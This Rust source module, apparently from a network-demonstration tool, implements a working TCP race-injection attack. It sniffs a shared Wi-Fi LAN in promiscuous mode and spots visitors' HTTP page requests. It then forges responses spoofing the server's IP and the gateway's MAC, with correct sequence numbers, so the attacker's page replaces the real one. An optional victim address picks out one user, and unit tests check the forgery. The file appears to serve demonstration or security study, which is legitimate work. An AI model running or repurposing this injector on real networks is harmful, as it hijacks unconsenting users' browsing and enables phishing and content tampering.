//! Packet-level race injection (`inject --race`), with pnet: the intruder is a fellow
//! guest on the Wi-Fi. It sees every frame (the guest LAN is a hub) but cannot block
//! anything, so it forges the site's answer with the right sequence numbers and races the
//! real server. The visitor's TCP takes whichever bytes arrive first at that sequence
//! number; the real answer then looks like a retransmission and is dropped.
//!
//! Over HTTP a won race puts the intruder's page on the screen. Over HTTPS the forged bytes
//! are not a valid TLS record: the visitor's TLS rejects them and aborts.

use std::collections::HashSet;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use etherparse::{NetSlice, PacketBuilder, SlicedPacket, TransportSlice};
use pnet::datalink::{self, Channel};

use super::Outcome;

/// A request seen on the LAN that deserves a forged answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    pub client_mac: [u8; 6],
    pub gateway_mac: [u8; 6],
    pub client: SocketAddrV4,
    pub server: SocketAddrV4,
    /// The server's next sequence number (the request's ACK).
    pub seq: u32,
    /// What the server acknowledges (request's sequence number + length).
    pub ack: u32,
    pub what: String,
}

/// Whether a frame is a visitor's request worth racing: an HTTP page request to port 80,
/// or encrypted application data to port 443. Pure.
pub fn target(frame: &[u8]) -> Option<Target> {
    let p = SlicedPacket::from_ethernet(frame).ok()?;
    let Some(etherparse::LinkSlice::Ethernet2(eth)) = &p.link else { return None };
    let Some(NetSlice::Ipv4(ip)) = &p.net else { return None };
    let Some(TransportSlice::Tcp(tcp)) = &p.transport else { return None };
    let payload = tcp.payload();
    if payload.is_empty() || !tcp.ack() {
        return None;
    }
    let what = match tcp.destination_port() {
        80 => {
            let line = payload.split(|b| *b == b'\r').next()?;
            let line = std::str::from_utf8(line).ok()?;
            let path = line.strip_prefix("GET ")?.split(' ').next()?;
            // Pages only: a forged stylesheet or script would show nothing.
            if path.rsplit('/').next().is_some_and(|last| last.contains('.')) {
                return None;
            }
            format!("GET {}", crate::findings::mask_url(path))
        }
        443 if payload[0] == 23 => "TLS application data".to_string(),
        _ => return None,
    };
    Some(Target {
        client_mac: eth.source(),
        gateway_mac: eth.destination(),
        client: SocketAddrV4::new(ip.header().source_addr(), tcp.source_port()),
        server: SocketAddrV4::new(ip.header().destination_addr(), tcp.destination_port()),
        seq: tcp.acknowledgment_number(),
        ack: tcp.sequence_number().wrapping_add(payload.len() as u32),
        what,
    })
}

/// The title of the forged page (so reports can tell it from the site's own pages).
pub const FORGED_TITLE: &str = "Free Wi-Fi: special offer";

/// The forged answer: from the server's address and the gateway's MAC, in sequence.
pub fn forge(t: &Target, ad: &str) -> Vec<u8> {
    let body = format!("<!doctype html><html><head><title>{FORGED_TITLE}</title></head><body>{ad}<p>This page was forged by another guest on the network.</p></body></html>\n");
    let payload = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let b = PacketBuilder::ethernet2(t.gateway_mac, t.client_mac)
        .ipv4(t.server.ip().octets(), t.client.ip().octets(), 64)
        .tcp(t.server.port(), t.client.port(), t.seq, 65535)
        .ack(t.ack)
        .psh()
        .fin();
    let mut v = Vec::with_capacity(payload.len() + 64);
    b.write(&mut v, payload.as_bytes()).expect("writing to a Vec");
    v
}

/// Watches `interface` and races every target until `stop` is set.
pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, stop: &AtomicBool) -> anyhow::Result<()> {
    let iface = datalink::interfaces().into_iter().find(|i| i.name == interface).with_context(|| format!("no interface {interface}"))?;
    let cfg = datalink::Config { read_timeout: Some(Duration::from_millis(200)), promiscuous: true, ..Default::default() };
    let (mut tx, mut rx) = match datalink::channel(&iface, cfg).context("opening a raw socket (needs CAP_NET_RAW)")? {
        Channel::Ethernet(tx, rx) => (tx, rx),
        _ => bail!("unsupported channel type"),
    };
    eprintln!("inject: racing on {interface} (a guest who can see but not block)");
    let mut raced: HashSet<(SocketAddrV4, u32)> = HashSet::new();
    while !stop.load(Ordering::SeqCst) {
        let frame = match rx.next() {
            Ok(f) => f,
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut || e.kind() == std::io::ErrorKind::WouldBlock => continue,
            Err(e) => return Err(e).context("reading frames"),
        };
        let seen = Instant::now();
        let Some(t) = target(frame) else { continue };
        if victim.is_some_and(|v| *t.client.ip() != v) || !raced.insert((t.client, t.ack)) {
            continue;
        }
        let forged = forge(&t, ad);
        let sent = tx.send_to(&forged, None).unwrap_or(Ok(()));
        let o = Outcome {
            kind: "race",
            client: t.client.to_string(),
            server: t.server.to_string(),
            url: Some(t.what.clone()),
            outcome: if sent.is_ok() { "forged".into() } else { "failed".into() },
            detail: match sent {
                Ok(()) => format!(
                    "forged answer to {} sent {} µs after seeing it, at seq {}; whether it won shows at the visitor",
                    t.what,
                    seen.elapsed().as_micros(),
                    t.seq
                ),
                Err(e) => e.to_string(),
            },
            bytes_to_client: forged.len() as u64,
            ..Outcome::default()
        };
        if let Ok(line) = serde_json::to_string(&o) {
            println!("{line}");
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::synth::{Segment, tcp_frame};

    fn request(port: u16, payload: &[u8]) -> Vec<u8> {
        let s = Segment { from_client: true, seq: 1000, ack: 5000, syn: false, fin: false, rst: false, payload: payload.to_vec() };
        tcp_frame("192.0.2.10:40000".parse().unwrap(), SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 10), port), &s)
    }

    #[test]
    fn forged_answer_continues_the_servers_sequence() {
        let req = request(80, b"GET /account HTTP/1.1\r\nHost: clinic.test\r\n\r\n");
        let t = target(&req).unwrap();
        assert_eq!((t.seq, t.ack, t.what.as_str()), (5000, 1000 + 44, "GET /account"));
        let f = forge(&t, "<div id=plainsight-ad>AD</div>");
        let p = SlicedPacket::from_ethernet(&f).unwrap();
        let Some(TransportSlice::Tcp(tcp)) = p.transport else { panic!() };
        assert_eq!((tcp.source_port(), tcp.destination_port()), (80, 40000));
        assert_eq!((tcp.sequence_number(), tcp.acknowledgment_number()), (5000, 1044));
        assert!(String::from_utf8_lossy(tcp.payload()).contains("plainsight-ad"));
        let Some(NetSlice::Ipv4(ip)) = p.net else { panic!() };
        assert_eq!(ip.header().source_addr(), Ipv4Addr::new(198, 51, 100, 10));
    }

    #[test]
    fn only_pages_and_tls_data_are_raced() {
        assert!(target(&request(80, b"GET /style.css HTTP/1.1\r\n\r\n")).is_none());
        assert!(target(&request(80, b"POST /login HTTP/1.1\r\n\r\n")).is_none());
        assert!(target(&request(443, &[23, 3, 3, 0, 1, 0])).is_some());
        assert!(target(&request(443, &[22, 3, 1, 0, 1, 0])).is_none());
        assert!(target(&request(22, b"SSH-2.0")).is_none());
    }
}
